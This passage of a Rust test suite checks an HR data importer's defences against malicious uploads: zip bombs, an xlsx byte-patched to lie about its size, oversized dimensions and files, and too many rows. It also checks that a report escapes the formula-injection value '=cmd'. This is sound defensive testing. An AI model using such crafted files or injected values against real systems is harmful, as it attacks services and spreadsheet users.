        as_of: as_of(),
    };
    let err = import_file(
        &mut t.db,
        &ctx(),
        &talenta_fixture::admin(&tenant).grant().unwrap(),
        ImportKind::Employees,
        &strings_bomb,
        &small_parts,
        &mut |_, _| {},
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::ZipBomb(_)), "{err}");

    // A part whose directory lies about its size: the zip reader stops at the declared size,
    // so the real 40 MB are never inflated and the file is refused as unreadable.
    let liar = dir.path().join("liar.xlsx");
    let padded = SMALL_SHEET.replace(
        "<sheetData>",
        &format!("<sheetData>{}", " ".repeat(40 * 1024 * 1024)),
    );
    handmade_xlsx(&liar, &padded, &[]);
    let mut bytes = std::fs::read(&liar).unwrap();
    let real = padded.len() as u32;
    let mut patched = 0;
    for i in 0..bytes.len().saturating_sub(4) {
        if bytes[i..i + 4] == real.to_le_bytes() {
            bytes[i..i + 4].copy_from_slice(&2000u32.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(
        patched, 2,
        "local header and central directory both patched"
    );
    std::fs::write(&liar, &bytes).unwrap();
    let err = run(&mut t.db, &tenant, ImportKind::Employees, &liar).unwrap_err();
    assert!(matches!(err, ImportError::BadXlsx(_)), "{err}");

    // A sheet that declares a huge dimension.
    let huge = dir.path().join("huge.xlsx");
    handmade_xlsx(&huge, &SMALL_SHEET.replace("A1:B2", "A1:XFD1048576"), &[]);
    let err = run(&mut t.db, &tenant, ImportKind::Employees, &huge).unwrap_err();
    assert!(matches!(err, ImportError::TooBig(_)), "{err}");
    assert!(err.to_string().contains("16384 kolom"), "{err}");

    // Data far to the right of the allowed columns.
    let wide = dir.path().join("wide.xlsx");
    let far = SMALL_SHEET.replace(
        r#"<c r="B2" t="inlineStr"><is><t>Budi</t></is></c>"#,
        r#"<c r="B2" t="inlineStr"><is><t>Budi</t></is></c><c r="ZZ2" t="inlineStr"><is><t>x</t></is></c>"#,
    );
    handmade_xlsx(&wide, &far, &[]);
    let err = run(&mut t.db, &tenant, ImportKind::Employees, &wide).unwrap_err();
    assert!(matches!(err, ImportError::TooBig(_)), "{err}");

    // An oversized file (sparse: no disk is spent) is refused before it is read.
    let big = dir.path().join("big.csv");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(300 * 1024 * 1024)
        .unwrap();
    let err = run(&mut t.db, &tenant, ImportKind::Employees, &big).unwrap_err();
    assert!(matches!(err, ImportError::FileTooLarge { .. }), "{err}");

    // Too many rows for the limit.
    let rows: String = std::iter::once("NIP,Nama\n".to_string())
        .chain((0..20).map(|i| format!("1966080119880310{:02},X\n", i + 1)))
        .collect();
    let few = ImportOptions {
        limits: ImportLimits {
            max_rows: 10,
            ..ImportLimits::default()
        },
        as_of: as_of(),
    };
    let err = import_file(
        &mut t.db,
        &ctx(),
        &talenta_fixture::admin(&tenant).grant().unwrap(),
        ImportKind::Employees,
        &write(dir.path(), "many.csv", rows.as_bytes()),
        &few,
        &mut |_, _| {},
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::TooBig(_)), "{err}");

    assert_eq!(snapshot(&mut t.db, &tenant), before);
}

#[test]
fn templates_have_the_headers_the_importer_expects() {
    let dir = tempfile::tempdir().unwrap();
    for kind in ImportKind::ALL {
        for ext in ["xlsx", "csv"] {
            let path = dir.path().join(format!("{}.{ext}", kind.code()));
            talenta_app::import::template::write_template(kind, &path, fx::now()).unwrap();
            // An empty template imports as "no rows" (headers recognised, nothing missing).
            let mut t = testing::sqlite();
            let tenant = store::create_tenant(
                &mut t.db,
                "x",
                "X",
                "kota",
                &RuleSet::default(),
                talenta_store::testing::now(),
            )
            .unwrap();
            let o = run(&mut t.db, &tenant, kind, &path).unwrap();
            assert_eq!(o.rows, 0, "{kind:?} {ext}");
            assert!(
                o.ignored_columns.is_empty(),
                "{kind:?} {ext}: {:?}",
                o.ignored_columns
            );
        }
    }
}

#[test]
fn the_error_report_is_written_as_csv_and_xlsx() {
    let dir = tempfile::tempdir().unwrap();
    let errors = vec![talenta_app::import::RowError {
        row: 5,
        column: "NIP".into(),
        value: "=cmd".into(),
        reason: "NIP harus 18 digit".into(),
    }];
    let csv = dir.path().join("r.csv");
    talenta_app::import::report::write_report(&csv, &errors, &[], fx::now()).unwrap();
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(
        text.contains("Kesalahan,5,NIP,'=cmd,NIP harus 18 digit"),
        "{text}"
    );
    let xlsx = dir.path().join("r.xlsx");
    talenta_app::import::report::write_report(&xlsx, &errors, &[], fx::now()).unwrap();
    assert!(std::fs::metadata(&xlsx).unwrap().len() > 1000);
    use calamine::{Reader, open_workbook_auto};
    let mut wb = open_workbook_auto(&xlsx).unwrap();
    let r = wb.worksheet_range("Laporan Impor").unwrap();
    assert_eq!(r.get_value((0, 4)).unwrap().to_string(), "Alasan");
    assert_eq!(r.get_value((1, 1)).unwrap().to_string(), "5");
    assert_eq!(r.get_value((1, 3)).unwrap().to_string(), "'=cmd", "escaped");
}

#[test]
fn a_bad_row_after_batches_were_written_still_leaves_nothing_behind() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        // 6,000 good rows (more than one write batch), then a duplicate of the first.
        let mut text = String::from("NIP,Nama,Kode Jabatan\n");
        let nips: Vec<String> = (0..6000)
            .map(|i| {
                format!(
                    "1980{:02}{:02}2005011{:03}",
                    1 + i % 12,
                    1 + (i / 12) % 28,
                    1 + i / 336
                )
            })
            .collect();
        for n in &nips {
            text.push_str(&format!("{n},Pegawai,ANALIS.ORG\n"));
        }
        text.push_str(&format!("{},Dobel,ANALIS.ORG\n", nips[0]));
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &write(dir.path(), "big.csv", text.as_bytes()),
        )
        .unwrap();
        assert_eq!(o.rows, 6001);
        assert_eq!(o.errors.len(), 1, "{:#?}", o.errors.first());
        assert_eq!(o.errors[0].row, 6002);
        assert!(o.errors[0].reason.contains("sama dengan baris 2"));
        assert_eq!(
            store::count(&mut t.db, tenant.id, "employees").unwrap(),
            0,
            "{}",
            t.name
        );
    }
}

#[test]
fn an_accepted_import_is_recorded_in_the_audit_trail_and_a_refused_one_is_not() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        let before = talenta_store::audit::entries(&mut t.db, tenant.id, None, 100)
            .unwrap()
            .len();
        let mut rows: Vec<&[&str]> = EMPLOYEES.to_vec();
        rows.push(&["123", "Salah", "", "", "", "", "", "", ""]);
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &xlsx(dir.path(), "bad.xlsx", &rows),
        )
        .unwrap();
        assert!(!o.accepted());
        assert_eq!(
            talenta_store::audit::entries(&mut t.db, tenant.id, None, 100)
                .unwrap()
                .len(),
            before
        );
        ok(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &xlsx(dir.path(), "pegawai.xlsx", EMPLOYEES),
        );
        let newest = &talenta_store::audit::entries(&mut t.db, tenant.id, None, 1).unwrap()[0];
        assert_eq!(newest.action, "import.employees", "{}", t.name);
        assert_eq!(newest.subject, "file:pegawai.xlsx");
        assert_eq!(newest.actor, "uji");
        assert!(
            newest.detail.contains("\"inserted\":3"),
            "{}",
            newest.detail
        );
        let v = talenta_store::audit::verify(&mut t.db, &ctx().audit_key).unwrap();
        assert!(v.iter().all(|x| x.first_break.is_none()));
    }
}

#[test]
fn an_external_centres_results_keep_the_class_they_were_assessed_for_and_an_unknown_class_is_refused()
 {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        let people = dir.path().join("pegawai.csv");
        std::fs::write(
            &people,
            "NIP;Nama;Kode Jabatan\n196608011988031001;Budi Santoso;SEKDA\n",
        )
        .unwrap();
        ok(&mut t.db, &tenant, ImportKind::Employees, &people);
        let head = "NIP;Tanggal Asesmen;Penyelenggara;Tujuan;Kelas Jabatan;M.1;M.2;M.3;M.4;M.5;M.6;M.7;M.8;SK.1\n";
        let bad = dir.path().join("hasil-salah.csv");
        std::fs::write(
            &bad,
            format!("{head}196608011988031001;2024-05-06;UPT Penilaian Kompetensi;Pemetaan;Kepala Seksi;3;3;3;3;3;3;3;3;3\n"),
        )
        .unwrap();
        let o = run(&mut t.db, &tenant, ImportKind::Results, &bad).unwrap();
        assert_eq!(o.errors.len(), 1, "{:#?}", o.errors);
        assert_eq!(
            (o.errors[0].row, o.errors[0].column.as_str()),
            (2, "Kelas Jabatan")
        );
        assert!(
            o.errors[0].reason.contains("'Kepala Seksi' tidak dikenal"),
            "{}",
            o.errors[0].reason
        );
        let emp = store::employee_by_nip(
            &mut t.db,
            tenant.id,
            Nip::parse("196608011988031001").unwrap(),
        )
        .unwrap()
        .unwrap();
        assert!(
            store::results_of(&mut t.db, tenant.id, emp.id)
                .unwrap()
                .is_empty(),
            "nothing stored"
        );
        let good = dir.path().join("hasil.csv");
        std::fs::write(
            &good,
            format!("{head}196608011988031001;2024-05-06;UPT Penilaian Kompetensi;Pemetaan;Pengawas;3;3;3;3;3;3;3;3;3\n"),
        )
        .unwrap();
        ok(&mut t.db, &tenant, ImportKind::Results, &good);
        let stored = store::results_of(&mut t.db, tenant.id, emp.id).unwrap();
        assert_eq!(
            stored[0].job_class,
            Some(talenta_domain::PositionClass::Pengawas)
        );
        assert!(
            stored[0].published,
            "an imported result is the person's to see"
        );
    }
}
